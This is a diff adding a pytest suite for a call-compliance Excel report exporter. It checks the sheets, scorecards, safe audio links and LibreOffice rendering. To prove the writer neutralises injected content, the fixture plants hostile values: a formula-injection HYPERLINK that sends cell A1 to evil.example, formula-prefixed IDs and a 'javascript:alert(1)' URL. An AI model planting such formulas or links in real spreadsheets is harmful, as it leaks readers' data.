@@ -1,0 +1,263 @@
+"""The manager's workbook, read back as a person's spreadsheet would read it.
+
+openpyxl (not the writer) reads every sheet back; LibreOffice renders it to PDF, and the pages
+go to test-artifacts/ as PNGs for a person to look at.
+"""
+
+from __future__ import annotations
+
+import math
+import re
+import shutil
+import subprocess
+import zipfile
+from collections.abc import Iterator
+from datetime import datetime
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from callcov_analytics import metrics, sandbox
+from callcov_analytics.calls import load_calls
+from callcov_analytics.errors import ValidationError
+from callcov_analytics.frame import empty_frame
+from callcov_analytics.report import export_report
+from callcov_analytics.workbook import LABELS, SHEETS, agent_summary, safe_url
+
+TZ = "Europe/London"
+ARTIFACTS = Path(__file__).resolve().parents[1] / "test-artifacts"
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
+
+
+@pytest.fixture(scope="module")
+def df() -> Iterator[pd.DataFrame]:
+    """A real load over HTTP in London time, with hostile text and links planted in it."""
+    with sandbox.serve(plan="enterprise", n_analyses=300) as api:
+        frame = load_calls(api.key, api.url, include_transcript=True, tz=TZ, cache=False)
+    frame.loc[0, "transcript_text"] = EVIL
+    frame.loc[1, "agent_id"] = "=1+1"
+    frame.loc[2, "contact_id"] = "@SUM(A1:A9)"
+    failing = metrics.compliance_exceptions(frame)["id"].unique()
+    rows = frame.index[frame["id"].isin(failing[:2])]
+    frame.loc[rows[0], "audio_url"] = "javascript:alert(1)"
+    frame.loc[rows[1], "audio_url"] = "http://insecure.example/a.wav"
+    yield frame
+
+
+@pytest.fixture(scope="module")
+def book(df: pd.DataFrame, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return export_report(df, tmp_path_factory.mktemp("wb") / "report.xlsx")
+
+
+def _table(ws: Any, top: int = 1) -> tuple[list[Any], list[list[Any]]]:
+    """(header, data rows) of a sheet whose header is row ``top``."""
+    rows = [list(r) for r in ws.iter_rows(min_row=top, values_only=True)]
+    return rows[0], rows[1:]
+
+
+def _same(cell: Any, value: Any) -> bool:
+    if value is None or value is pd.NA or (isinstance(value, float) and math.isnan(value)):
+        return cell is None
+    if isinstance(value, float) and not isinstance(value, bool):
+        return cell == pytest.approx(value, rel=1e-14, abs=1e-14)
+    return bool(cell == value)
+
+
+def test_sheets_in_order_summary_first_in_words(book: Path, df: pd.DataFrame) -> None:
+    wb = openpyxl.load_workbook(book)
+    assert wb.sheetnames == list(SHEETS)
+    summary = [c for row in wb["Summary"].iter_rows(values_only=True) for c in row if c]
+    text = "\n".join(map(str, summary))
+    assert summary[0] == "Call compliance report"
+    analysed = int(metrics.check_outcomes(df)["analysed"].sum())
+    assert f"{len(df):,} calls, of which {analysed:,} analysed" in text
+    exceptions = metrics.compliance_exceptions(df)
+    assert f"{len(exceptions):,} exceptions on {exceptions['id'].nunique():,} calls" in text
+    assert df.attrs["key_hint"] in text and TZ in text
+    card = metrics.agent_scorecard(df).set_index("agent_id")
+    coach = next(line for line in summary if str(line).startswith("Most in need of coaching"))
+    named = re.findall(r"(?:: |; )(\S+) \(flagged on", coach)
+    ranks = card.loc[card["ranked"], "rank"].sort_values(ascending=False)
+    assert len(named) == min(3, len(ranks))
+    assert sorted(card.loc[named, "rank"], reverse=True) == list(ranks.iloc[: len(named)])
+    for check in metrics.CHECKS:
+        assert f"{LABELS[check]}: passed on " in text
+
+
+def test_agent_detail_equals_the_scorecard(book: Path, df: pd.DataFrame) -> None:
+    ws = openpyxl.load_workbook(book)["Agent detail"]
+    header, rows = _table(ws)
+    expected = metrics.agent_scorecard(df)
+    assert header == list(expected.columns)
+    assert len(rows) == len(expected)
+    for row, (_, want) in zip(rows, expected.iterrows(), strict=True):
+        for name, cell in zip(header, row, strict=True):
+            assert _same(cell, want[name]), (want["agent_id"], name, cell, want[name])
+    formats = {h: ws.cell(2, i + 1).number_format for i, h in enumerate(header)}
+    assert formats["identity_verification_pass_rate"] == "0.0%"
+    assert formats["flagged_ci_high"] == "0.0%"
+    assert formats["calls"] == "#,##0"
+
+
+def test_agents_ten_columns_intervals_greyed_and_lit(book: Path, df: pd.DataFrame) -> None:
+    ws = openpyxl.load_workbook(book)["Agents"]
+    header, rows = _table(ws, top=4)
+    assert header[:10] == ["Agent", "Calls", "Analysed", *LABELS.values(), "Rank"]
+    card = metrics.agent_scorecard(df)
+    summary = agent_summary(card)
+    for i, (row, want) in enumerate(zip(rows, summary.itertuples(index=False), strict=True)):
+        assert row[0] == want.agent_id and row[1] == want.calls and row[2] == want.analysed
+        assert row[3:9] == [getattr(want, m) for m in (*metrics.CHECKS, "flagged")]
+        assert all(re.fullmatch(r"[<>]?\d+% \([<>]?\d+–[<>]?\d+%\)|no data", c) for c in row[3:9])
+        if card["ranked"].iloc[i]:
+            assert row[9] == want.rank
+        else:
+            assert row[9] == "not ranked"
+            assert ws.cell(5 + i, 1).font.color.rgb.endswith("7F7F7F")  # greyed
+    assert (~card["ranked"]).any(), "the fixture has an agent under min_calls"
+    rules = [r for rng in ws.conditional_formatting for r in rng.rules]
+    assert len(rules) == 3 * 6  # red, green, amber for each check and flagged
+    assert all(r.type == "expression" for r in rules)
+    assert ws.column_dimensions["K"].hidden  # the numbers the lights compare, grouped away
+
+
+def test_exceptions_second_in_call_and_only_safe_links(book: Path, df: pd.DataFrame) -> None:
+    ws = openpyxl.load_workbook(book)["Exceptions"]
+    header, rows = _table(ws)
+    assert header == [f"Call time ({TZ})", "Agent", "Contact", "Check", "Why it failed",
+                      "Second in the call", "Call id", "Audio"]  # fmt: skip
+    expected = metrics.compliance_exceptions(df)
+    assert len(rows) == len(expected)
+    audio = dict(zip(df["id"], df["audio_url"], strict=True))
+    links = 0
+    for r, (row, want) in enumerate(zip(rows, expected.itertuples(), strict=True), start=2):
+        local = want.created.tz_convert(TZ).tz_localize(None).to_pydatetime()
+        assert row[0] == local.replace(microsecond=0) or row[0] == local
+        assert row[1:5] == [want.agent_id, want.contact_id, LABELS[want.check], want.detail]
+        assert _same(row[5], want.at_s) and row[6] == want.id
+        link = ws.cell(r, 8).hyperlink
+        url = audio[want.id]
+        if safe_url(url):
+            links += 1
+            assert link is not None and link.target == url
+            # the anchor (Excel's "location") starts the player at the second in question
+            assert link.location == (None if pd.isna(want.at_s) else f"t={int(want.at_s)}")
+        else:
+            assert link is None and row[7] == url  # shown as text, never clickable
+    assert links and links < len(rows)
+    first = 2 + next(i for i, v in enumerate(expected["at_s"]) if not pd.isna(v))
+    assert ws.cell(first, 6).number_format == '#,##0" s"'
+
+
+def test_daily_volume_is_bucketed_in_the_zone(book: Path, df: pd.DataFrame) -> None:
+    ws = openpyxl.load_workbook(book)["Daily volume"]
+    header, rows = _table(ws)
+    assert header[0] == f"Day ({TZ})"
+    days = df["created"].dt.tz_convert(TZ).dt.date.value_counts()
+    seen = {row[0].date(): row[1] for row in rows if row[1]}
+    assert seen == days.to_dict()
+    assert ws.cell(2, 6).number_format == "[h]:mm:ss"
+    talk = df.groupby(df["created"].dt.tz_convert(TZ).dt.date)["duration_seconds"].sum()
+    for row in rows:
+        seconds = row[5].total_seconds() if row[5] is not None else 0.0  # a duration cell
+        assert seconds == pytest.approx(talk.get(row[0].date(), 0.0), abs=1e-3)
+
+
+def test_frozen_filtered_formatted_and_never_a_formula(book: Path, df: pd.DataFrame) -> None:
+    wb = openpyxl.load_workbook(book)
+    for name, freeze, top in (("Agents", "B5", 4), ("Agent detail", "B2", 1),
+                              ("Exceptions", "A2", 1), ("Daily volume", "B2", 1),
+                              ("Calls", "B2", 1)):  # fmt: skip
+        ws = wb[name]
+        assert ws.freeze_panes == freeze, name
+        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith(f"A{top}:"), name
+    calls = wb["Calls"]
+    header, rows = _table(calls)
+    assert len(rows) == len(df)
+    cell = calls.cell(2, header.index("transcript_text") + 1)
+    assert cell.value == EVIL and cell.data_type == "s"  # text, not a formula
+    assert calls.cell(3, header.index("agent_id") + 1).value == "=1+1"
+    created = calls.cell(2, header.index(f"created ({TZ})") + 1)
+    assert created.number_format == "yyyy-mm-dd hh:mm" and isinstance(created.value, datetime)
+    assert created.value == df["created"].iloc[0].tz_convert(TZ).tz_localize(None)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            assert all(c.data_type != "f" for c in row), ws.title
+    with zipfile.ZipFile(book) as z:  # and in the file itself: no <f> formula element anywhere
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert len(sheets) == len(SHEETS)
+        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
+
+
+def test_safe_url() -> None:
+    assert safe_url("https://storage.callcov.example/audio/a.wav")
+    for bad in ("http://x.example/a", "javascript:alert(1)", "https://", "https://a b/c",
+                'https://x.example/"a', "https://user:pw@x.example/a", None, 5,
+                "https://x.example/" + "a" * 3000, "HTTPS://x.example/\x00"):  # fmt: skip
+        assert not safe_url(bad), bad
+
+
+def test_xlsx_path_is_a_file_never_a_folder(df: pd.DataFrame, tmp_path: Path) -> None:
+    small = df.head(30)
+    path = export_report(small, tmp_path / "rep.xlsx", charts=False)
+    assert path.is_file() and zipfile.is_zipfile(path)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["rep.xlsx"]  # no temp file left
+    with pytest.raises(ValidationError, match="already exists"):
+        export_report(small, path)
+    before = path.stat().st_mtime_ns
+    export_report(small, path, overwrite=True)
+    assert path.stat().st_mtime_ns >= before
+    for wrong in ("rep.csv", "rep.xls", "rep.parquet"):
+        with pytest.raises(ValidationError, match=r"\.xlsx workbook or a folder"):
+            export_report(small, tmp_path / wrong)
+    with pytest.raises(ValidationError, match="parquet"):
+        export_report(small, tmp_path / "other.xlsx", parquet=True)
+    (tmp_path / "dir.xlsx").mkdir()
+    with pytest.raises(ValidationError, match="not a workbook file"):
+        export_report(small, tmp_path / "dir.xlsx", overwrite=True)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["dir.xlsx", "rep.xlsx"]
+
+
+def test_empty_frame_makes_a_workbook_that_says_so(tmp_path: Path) -> None:
+    path = export_report(empty_frame(), tmp_path / "empty.xlsx")
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == list(SHEETS)
+    text = " ".join(str(c) for row in wb["Summary"].iter_rows(values_only=True) for c in row if c)
+    assert "0 calls" in text and "No exceptions await review." in text
+    assert [list(r) for r in wb["Calls"].iter_rows(min_row=2, values_only=True)] == []
+
+
+def test_libreoffice_renders_every_sheet(df: pd.DataFrame, tmp_path: Path) -> None:
+    """LibreOffice converts the workbook to PDF; pages go to test-artifacts/ as PNGs."""
+    soffice, pdftoppm = shutil.which("soffice"), shutil.which("pdftoppm")
+    if soffice is None or pdftoppm is None:
+        pytest.fail("needs soffice and pdftoppm: run `make system-deps` (as root)")
+    # The whole of df prints the Calls sheet on hundreds of pages; 40 calls keep it quick.
+    path = export_report(df.head(40), tmp_path / "report.xlsx")
+    done = subprocess.run(
+        [soffice, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
+         "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)],
+        capture_output=True, text=True, timeout=170, check=False,
+    )  # fmt: skip
+    pdf = tmp_path / "report.pdf"
+    assert done.returncode == 0 and pdf.is_file(), done.stderr
+    text = subprocess.run(
+        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
+    ).stdout
+    for words in ("Call compliance report", "In brief", "Agents: pass rate per check",
+                  "Why it failed", "Calls per day by status", "transcript_text"):  # fmt: skip
+        assert words in text, words
+    assert "=HYPERLINK(" in text  # printed as the text it is
+    ARTIFACTS.mkdir(exist_ok=True)
+    for old in ARTIFACTS.glob("workbook-*.png"):
+        old.unlink()
+    subprocess.run(
+        [pdftoppm, "-r", "60", "-l", "12", "-png", str(pdf), str(ARTIFACTS / "workbook")],
+        check=True,
+        timeout=60,
+    )
+    pages = sorted(ARTIFACTS.glob("workbook-*.png"))
+    assert pages and all(p.read_bytes().startswith(b"\x89PNG") for p in pages)
